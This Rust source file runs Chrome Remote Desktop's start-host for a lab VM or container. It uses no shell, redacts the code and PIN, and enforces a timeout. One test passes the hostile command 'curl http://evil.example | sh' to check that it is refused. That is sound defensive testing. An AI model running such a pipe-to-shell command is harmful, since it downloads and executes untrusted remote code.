//! Running Chrome Remote Desktop's start-host for an assignment: the argv is rebuilt from
//! the command's checked `--code` by the shared [`CrdCommand`] (never a shell), `DISPLAY`
//! is empty, the PIN goes twice on stdin, and the run is killed at the timeout.
//!
//! Never as root: in the workspace container it runs as the desktop user
//! (`docker exec -u`) with `--no-start` and `--display-name` (CRD 148: it only
//! registers; [`crate::crd`] starts the host); on the host, a daemon running as root passes Google's
//! `--user-name=<desktop user>` (Google's start-host refuses root without it:
//! `remoting/host/setup/start_host_as_root.cc`), and one that is not root runs it as
//! itself. What it printed is reported with the code and the PIN removed.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use lablink_core::domain::{CrdCommand, Hostname};
use lablink_wire::StartHostOutcome;
use tokio::io::AsyncWriteExt;
use tokio::process::Command;

use crate::workspace::Workspace;

/// Output kept per stream (the daemon's log), and the tail reported to the API.
const OUTPUT_LIMIT: usize = 8 * 1024;
const REPORTED_LINES: usize = 10;
const REPORTED_CHARS: usize = 1500;

#[derive(Debug, thiserror::Error)]
pub enum RunError {
    #[error("the assigned command is not a Chrome Remote Desktop command: {0}")]
    BadCommand(String),
    #[error("cannot start {path}: {source}")]
    Spawn { path: String, source: std::io::Error },
    #[error("start-host did not finish within {0:?} and was killed")]
    Timeout(Duration),
    #[error("start-host failed ({status}): {output}")]
    Failed {
        status: String,
        code: Option<i32>,
        /// Its last lines, the code and PIN removed.
        output: String,
    },
    #[error("waiting for start-host failed: {0}")]
    Wait(std::io::Error),
}

impl RunError {
    /// Whether Google refused the registration (the participant's code): start-host
    /// ran, exited with its own failure status and said "OAuth error"
    /// (start_host_main.cc: "Couldn't start host: OAuth error." for a code Google
    /// refuses; it exits 1 for a network, permission or registration error too, which
    /// are this VM's). A death by a signal (CRD 148's abort without its runtime directory
    /// is SIGTRAP, exit 133), a program that could not run (126, 127), a timeout or a bad
    /// command is this VM's problem, not the code's.
    pub fn is_refusal(&self) -> bool {
        matches!(self, Self::Failed { code: Some(c), output, .. }
            if (1..126).contains(c) && output.contains("OAuth error"))
    }

    /// What the API is told of this failure.
    pub fn outcome(&self) -> StartHostOutcome {
        let (exit_code, output) = match self {
            Self::Failed { code, output, .. } => (*code, output.clone()),
            other => (None, other.to_string()),
        };
        StartHostOutcome {
            ok: false,
            exit_code,
            output,
            assignment: None,
        }
    }
}

/// Where start-host runs.
pub enum Runner<'a> {
    /// On this host: the program itself. `user_name` is passed as `--user-name` (a
    /// daemon running as root).
    Host {
        start_host: &'a Path,
        user_name: Option<&'a str>,
    },
    /// Inside the workspace container as the desktop user; `start_host` is its path in
    /// the image.
    Workspace {
        workspace: &'a Workspace,
        start_host: &'a Path,
    },
}

fn clip(b: &[u8]) -> String {
    let s = String::from_utf8_lossy(&b[..b.len().min(OUTPUT_LIMIT)]);
    s.trim().to_owned()
}

/// The last lines of `text` with every secret in it replaced, short enough to report.
pub fn redacted_tail(text: &str, secrets: &[(&str, &str)]) -> String {
    let mut clean = text.to_owned();
    for (secret, mark) in secrets {
        if !secret.is_empty() {
            clean = clean.replace(secret, mark);
        }
    }
    let lines: Vec<&str> = clean.lines().filter(|l| !l.trim().is_empty()).collect();
    let tail = lines[lines.len().saturating_sub(REPORTED_LINES)..].join("\n");
    let n = tail.chars().count();
    tail.chars().skip(n.saturating_sub(REPORTED_CHARS)).collect()
}

/// Run start-host for `command` on `host`; its (redacted) output's last lines.
pub async fn run(
    runner: &Runner<'_>,
    command: &str,
    pin: &str,
    host: &Hostname,
    timeout: Duration,
) -> Result<String, RunError> {
    let crd = CrdCommand::parse(command).map_err(|e| RunError::BadCommand(e.to_string()))?;
    let argv = crd.argv(host);
    let code = argv[1].strip_prefix("--code=").unwrap_or_default().to_owned();
    let secrets = [(code.as_str(), "<code>"), (pin, "<pin>")];
    let pin_twice = format!("{pin}\n{pin}\n");
    // argv[0] is Google's path; the configured program replaces it.
    let (status, code_, stdout, stderr, in_container) = match runner {
        Runner::Host {
            start_host,
            user_name,
        } => {
            let mut cmd = Command::new(start_host);
            cmd.args(&argv[1..]).envs(crd.env());
            if let Some(u) = user_name {
                cmd.arg(format!("--user-name={u}"));
            }
            // start-host and its children never see the VM's credential or enrollment
            // secret.
            cmd.env_remove("LABLINK_CREDENTIAL")
                .env_remove("LABLINK_ENROLL_SECRET")
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .kill_on_drop(true);
            let path = start_host.display().to_string();
            let mut child = cmd.spawn().map_err(|source| RunError::Spawn { path, source })?;
            let mut stdin = child.stdin.take().expect("stdin is piped");
            let write = async move {
                // A program that exits without reading its stdin is not an error here.
                let _ = stdin.write_all(pin_twice.as_bytes()).await;
                let _ = stdin.shutdown().await;
            };
            let (_, out) = tokio::join!(write, tokio::time::timeout(timeout, child.wait_with_output()));
            let out = match out {
                Err(_) => return Err(RunError::Timeout(timeout)),
                Ok(Err(e)) => return Err(RunError::Wait(e)),
                Ok(Ok(out)) => out,
            };
            (
                out.status.to_string(),
                out.status.code(),
                out.stdout,
                out.stderr,
                false,
            )
        }
        Runner::Workspace {
            workspace,
            start_host,
        } => {
            // `timeout` inside the container: ending the exec's stream would not stop it.
            let secs = timeout.as_secs().max(1).to_string();
            let mut inner: Vec<String> = vec![
                "timeout".into(),
                "-k".into(),
                "5".into(),
                secs,
                start_host.display().to_string(),
            ];
            inner.extend(argv[1..].iter().cloned());
            // Register only: the host is started without systemd by the desktop's
            // supervisor (`crd.rs`).
            inner.push(format!("--display-name={host}"));
            inner.push("--no-start".into());
            let mut spec = workspace.as_user(&crd.env(), &inner);
            spec.stdin = Some(pin_twice.into_bytes());
            // In the container `timeout` ends it first; this is the backstop.
            let out = workspace
                .exec(spec, timeout + Duration::from_secs(15))
                .await
                .map_err(|e| RunError::Spawn {
                    path: format!("{} in the workspace", start_host.display()),
                    source: std::io::Error::other(e),
                })?;
            let code = out.code.and_then(|c| i32::try_from(c).ok());
            let status = code.map_or_else(|| "no exit status".to_owned(), |c| format!("exit status: {c}"));
            (status, code, out.stdout, out.stderr, true)
        }
    };
    let stdout = redacted_tail(&clip(&stdout), &secrets);
    let stderr = redacted_tail(&clip(&stderr), &secrets);
    if !stderr.is_empty() {
        tracing::info!(stderr = %stderr, "start-host stderr");
    }
    if code_ == Some(0) {
        return Ok(stdout);
    }
    // coreutils' `timeout` exits 124 (137 when it had to kill).
    if in_container && matches!(code_, Some(124 | 137)) {
        return Err(RunError::Timeout(timeout));
    }
    Err(RunError::Failed {
        status,
        code: code_,
        output: if stderr.is_empty() { stdout } else { stderr },
    })
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;

    use super::*;

    fn script(dir: &Path, name: &str, body: &str) -> std::path::PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, format!("#!/bin/sh\n{body}\n")).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    }

    fn host_runner(p: &Path) -> Runner<'_> {
        Runner::Host {
            start_host: p,
            user_name: None,
        }
    }

    #[tokio::test]
    async fn a_root_daemon_passes_the_desktop_user_as_googles_user_name() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("out");
        let bin = script(
            dir.path(),
            "start-host",
            &format!("echo \"$@\" > {}", out.display()),
        );
        let host = Hostname::parse("vm-7").unwrap();
        let runner = Runner::Host {
            start_host: &bin,
            user_name: Some("client"),
        };
        run(&runner, CMD, "123456", &host, Duration::from_secs(10))
            .await
            .unwrap();
        let got = std::fs::read_to_string(&out).unwrap();
        assert!(
            got.trim_end().ends_with("--name=vm-7 --user-name=client"),
            "{got}"
        );
    }

    #[test]
    fn the_reported_tail_is_the_last_lines_without_secrets() {
        let text = (1..=30)
            .map(|i| format!("line {i} 4/0Code 654321"))
            .collect::<Vec<_>>()
            .join("\n");
        let tail = redacted_tail(&text, &[("4/0Code", "<code>"), ("654321", "<pin>")]);
        assert_eq!(tail.lines().count(), REPORTED_LINES);
        assert!(tail.starts_with("line 21 <code> <pin>"), "{tail}");
        assert!(tail.ends_with("line 30 <code> <pin>"));
        assert!(redacted_tail(&"x".repeat(5000), &[]).len() <= REPORTED_CHARS);
    }

    const CMD: &str = "DISPLAY= /opt/google/chrome-remote-desktop/start-host --code=\"4/0AbcDef-ghi\" \
                       --redirect-url=\"https://remotedesktop.google.com/_/oauthredirect\" --name=$(hostname)";

    #[tokio::test]
    async fn runs_without_a_shell_with_the_pin_twice_and_an_empty_display() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("out");
        let bin = script(
            dir.path(),
            "start-host",
            &format!(
                "for a in \"$@\"; do echo \"arg:$a\"; done > {o}; echo \"DISPLAY=[$DISPLAY]\" >> {o}; cat >> {o}; echo done",
                o = out.display()
            ),
        );
        let host = Hostname::parse("vm-7").unwrap();
        let stdout = run(&host_runner(&bin), CMD, "123456", &host, Duration::from_secs(10))
            .await
            .unwrap();
        assert_eq!(stdout, "done");
        let got = std::fs::read_to_string(&out).unwrap();
        assert_eq!(
            got,
            "arg:--code=4/0AbcDef-ghi\narg:--redirect-url=https://remotedesktop.google.com/_/oauthredirect\n\
             arg:--name=vm-7\nDISPLAY=[]\n123456\n123456\n"
        );
    }

    #[tokio::test]
    async fn refuses_a_command_that_is_not_crd_and_reports_failures_and_timeouts() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("ran");
        let bin = script(dir.path(), "ok", &format!("touch {}", marker.display()));
        let host = Hostname::parse("vm-7").unwrap();
        let bad = "curl http://evil.example | sh";
        assert!(matches!(
            run(&host_runner(&bin), bad, "123456", &host, Duration::from_secs(5)).await,
            Err(RunError::BadCommand(_))
        ));
        assert!(!marker.exists(), "nothing runs for a refused command");

        let failing = script(
            dir.path(),
            "fail",
            "read p; echo 'starting'; echo \"OAuth code $1 expired (PIN $p)\" >&2; exit 3",
        );
        let e = run(
            &host_runner(&failing),
            CMD,
            "123456",
            &host,
            Duration::from_secs(5),
        )
        .await
        .unwrap_err();
        assert!(
            e.to_string()
                .contains("OAuth code --code=<code> expired (PIN <pin>)"),
            "{e}"
        );
        let o = e.outcome();
        assert_eq!((o.ok, o.exit_code), (false, Some(3)));
        assert!(
            !o.output.contains("4/0AbcDef-ghi") && !o.output.contains("123456"),
            "{o:?}"
        );

        let slow = script(dir.path(), "slow", "sleep 30");
        let t = std::time::Instant::now();
        let e = run(
            &host_runner(&slow),
            CMD,
            "123456",
            &host,
            Duration::from_millis(300),
        )
        .await
        .unwrap_err();
        assert!(matches!(e, RunError::Timeout(_)), "{e}");
        assert!(t.elapsed() < Duration::from_secs(5));

        let missing = dir.path().join("missing");
        assert!(matches!(
            run(
                &host_runner(&missing),
                CMD,
                "123456",
                &host,
                Duration::from_secs(5)
            )
            .await,
            Err(RunError::Spawn { .. })
        ));
    }
}
